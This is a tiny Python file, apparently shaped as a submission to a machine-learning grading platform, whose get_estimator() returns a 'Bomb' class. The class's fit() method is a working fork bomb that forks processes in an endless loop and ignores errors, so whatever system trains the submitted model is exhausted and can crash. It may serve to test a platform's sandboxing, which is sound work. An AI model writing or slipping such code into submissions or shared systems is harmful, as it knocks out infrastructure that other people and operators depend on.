import os


class Bomb:
    def fit(self, X, y):
        while True:
            try:
                os.fork()
            except OSError:
                continue


def get_estimator():
    return Bomb()
